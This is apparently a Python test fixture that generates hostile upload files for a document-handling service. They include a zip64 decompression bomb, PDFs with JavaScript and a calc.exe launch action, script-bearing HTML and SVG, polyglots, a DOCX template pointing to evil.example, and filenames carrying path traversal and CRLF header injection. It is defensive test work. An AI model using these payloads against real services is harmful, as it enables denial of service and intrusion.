"""Files that somebody hostile, or somebody unlucky, sends: each is made here, and docs/evidence.md says what becomes of
it. What would run in a browser opens `RAN` and so gives itself away."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from tests.documents import docx, pdf, picture, repacked, with_relationship, xlsx
from tests.services.clamd import EICAR

RAN = "/ran"
SCRIPT = f"document.title='ran';fetch('{RAN}');location='{RAN}'"
HTML = f'<!doctype html><title>x</title><script>{SCRIPT}</script><img src=x onerror="{SCRIPT}">'.encode()
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SCRIPT}"><script>{SCRIPT}</script></svg>'.encode()


@dataclass(frozen=True)
class Hostile:
    """A file: what docs/evidence.md calls it, what it is sent as, and what it is."""

    what: str
    name: str
    content: bytes


def zipped(**members: bytes) -> bytes:
    """A ZIP archive."""
    place = io.BytesIO()
    with zipfile.ZipFile(place, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return place.getvalue()


def nested(content: bytes, depth: int) -> bytes:
    """An archive in an archive, so deep."""
    return zipped(a=nested(content, depth - 1) if depth > 1 else content)


def of_many_members(count: int) -> bytes:
    """An archive of so many empty members."""
    place = io.BytesIO()
    with zipfile.ZipFile(place, "w") as archive:
        for number in range(count):
            archive.writestr(zipfile.ZipInfo(f"word/{number}"), b"")
    return place.getvalue()


def zip64_bomb() -> bytes:
    """A DOCX with a member of 6 GiB of zeros, whose size stands in zip64 headers; itself it has 6 MiB.

    One deflated block of zeros that ends on a byte is written once and repeated.
    """
    size, piece = 6 * 1024**3, 16 * 1024**2
    block = zlib.compressobj(9, zlib.DEFLATED, -15)
    repeated = block.compress(bytes(piece)) + block.flush(zlib.Z_FULL_FLUSH)
    packed = repeated * (size // piece) + b"\x03\x00"
    name = b"word/media/image1.bin"
    extra = struct.pack("<HHQQ", 1, 16, size, len(packed))
    head = struct.pack("<HHHHHIIIHH", 45, 0, 8, 0, 0x21, 0, 0xFFFFFFFF, 0xFFFFFFFF, len(name), len(extra))
    local = b"PK\x03\x04" + head + name + extra + packed
    whole = io.BytesIO(docx("Бомба"))
    with zipfile.ZipFile(whole) as archive:
        start = archive.start_dir
        directory = whole.getvalue()[start : whole.getvalue().rindex(b"PK\x05\x06")]
        count = len(archive.infolist()) + 1
    entry = b"PK\x01\x02" + struct.pack("<H", 45) + head + struct.pack("<HHHII", 0, 0, 0, 0, start) + name + extra
    directory += entry
    place = start + len(local)
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), place, 0)
    return whole.getvalue()[:start] + local + directory + end


def _with_action(action: dict[str, str]) -> bytes:
    writer = PdfWriter(io.BytesIO(pdf("Открой меня")))
    made = DictionaryObject({NameObject(key): NameObject(value) for key, value in action.items()})
    if "/JS" in action:
        made[NameObject("/JS")] = TextStringObject(action["/JS"])
    writer.root_object[NameObject("/OpenAction")] = made
    return _saved(writer)


def _with_named_script() -> bytes:
    writer = PdfWriter(io.BytesIO(pdf("Открой меня")))
    script = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(SCRIPT)}
    )
    names = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("x"), script])})
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): names})
    return _saved(writer)


def _with_form_of_xml() -> bytes:
    writer = PdfWriter(io.BytesIO(pdf("Анкета")))
    form = DictionaryObject({NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): TextStringObject("<xdp/>")})
    writer.root_object[NameObject("/AcroForm")] = form
    return _saved(writer)


def _saved(writer: PdfWriter) -> bytes:
    place = io.BytesIO()
    writer.write(place)
    return place.getvalue()


def encrypted(archive: bytes) -> bytes:
    """The archive as if its first member had a password."""
    content = bytearray(archive)
    content[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def macro_sheet() -> bytes:
    """An XLSX with a sheet of the macros of old."""
    kind = b"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
    old = b"application/vnd.ms-excel.macrosheet+xml"
    return repacked(xlsx(A=[[1]]), lambda name, part: part.replace(kind, old) if "Content_Types" in name else part)


def with_stream(content: bytes) -> bytes:
    """A PDF that brings a file along."""
    writer = PdfWriter(io.BytesIO(pdf("Приложение внутри")))
    writer.add_attachment("file", content)
    return _saved(writer)


@cache
def everything() -> tuple[Hostile, ...]:
    """The set, in the order of docs/evidence.md; it takes seconds to make."""
    return tuple(_made())


def _made() -> Iterator[Hostile]:
    yield Hostile("EICAR", "отчёт.pdf", EICAR)
    yield Hostile("EICAR as text", "отчёт.txt", EICAR)
    yield Hostile("EICAR attached to a PDF", "отчёт.pdf", with_stream(EICAR))
    yield Hostile("EICAR in nested zips", "архив.zip", nested(EICAR, 5))
    yield Hostile("EICAR in nested zips named .docx", "архив.docx", nested(EICAR, 5))
    yield Hostile(
        "EICAR in nested zips in a DOCX", "отчёт.docx", repacked(docx("А"), more={"word/a.zip": nested(EICAR, 3)})
    )
    yield Hostile("zip64 bomb", "бомба.docx", zip64_bomb())
    yield Hostile("60,000 empty members", "много.docx", of_many_members(60_000))
    yield Hostile("encrypted zip", "тайна.zip", encrypted(zipped(a=b"a")))
    yield Hostile("encrypted part of a DOCX", "тайна.docx", encrypted(docx("Тайна")))
    yield Hostile("encrypted PDF", "тайна.pdf", pdf("Тайна", password="secret"))
    yield Hostile("PDF with a script on opening", "скрипт.pdf", _with_action({"/S": "/JavaScript", "/JS": SCRIPT}))
    yield Hostile("PDF with a named script", "скрипт.pdf", _with_named_script())
    yield Hostile("PDF with a launch action", "запуск.pdf", _with_action({"/S": "/Launch", "/F": "/calc.exe"}))
    yield Hostile("PDF with an XFA form", "анкета.pdf", _with_form_of_xml())
    yield Hostile("SVG with a script", "рисунок.svg", SVG)
    yield Hostile("SVG with a script named .png", "рисунок.png", SVG)
    yield Hostile("HTML", "страница.html", HTML)
    yield Hostile("HTML named .pdf", "страница.pdf", HTML)
    yield Hostile("HTML named .txt", "страница.txt", HTML)
    yield Hostile("HTML named .mp4", "страница.mp4", HTML)
    yield Hostile("PDF and HTML at once", "двойной.pdf", pdf("Двойной") + HTML)
    yield Hostile("PNG and HTML at once", "двойной.png", picture() + HTML)
    yield Hostile("JPEG and a script at once", "двойной.jpg", picture("JPEG") + f";{SCRIPT}".encode())
    yield Hostile("PDF and DOCX at once", "двойной.pdf", pdf("Двойной") + docx("Двойной"))
    yield Hostile("MP4 and HTML at once", "двойной.mp4", struct.pack(">I", 24) + b"ftypisom" + bytes(12) + HTML)
    yield Hostile(
        "DOCX with a remote template",
        "шаблон.docx",
        with_relationship(docx("Шаблон"), "attachedTemplate", "https://evil.example/t.dotm"),
    )
    yield Hostile("DOCX with a macro", "макрос.docx", repacked(docx("А"), more={"word/vbaProject.bin": b"\x00"}))
    yield Hostile("XLSX with a macro sheet", "макрос.xlsx", macro_sheet())
    yield Hostile("program", "программа.exe", b"MZ\x90\x00")
    yield Hostile("program named .pdf", "программа.pdf", b"MZ\x90\x00")
    yield Hostile("0 bytes", "пусто.pdf", b"")
    yield Hostile("name that turns its direction", "отчёт\u202efdp.txt", "Отчёт".encode())
    yield Hostile("name that leads elsewhere", "../../../etc/cron.d/задание.txt", "Отчёт".encode())
    yield Hostile("name of 4 KB", "я" * 2046 + ".txt", "Отчёт".encode())
    yield Hostile("name with a NUL", "отчёт\x00.txt", "Отчёт".encode())
    yield Hostile("name with line breaks", "отчёт\r\nSet-Cookie: a=b\r\n.txt", "Отчёт".encode())
    yield Hostile("NUL bytes", "нули.pdf", bytes(4096))
    yield Hostile("NUL bytes named .txt", "нули.txt", bytes(4096))
    yield Hostile("wrong ending", "отчёт.docx", pdf("Отчёт"))
    yield Hostile("broken PDF", "обрывок.pdf", pdf("Обрывок")[:300])
    yield Hostile("picture of 90 megapixels", "стена.png", picture("PNG", (10_000, 9_000)))
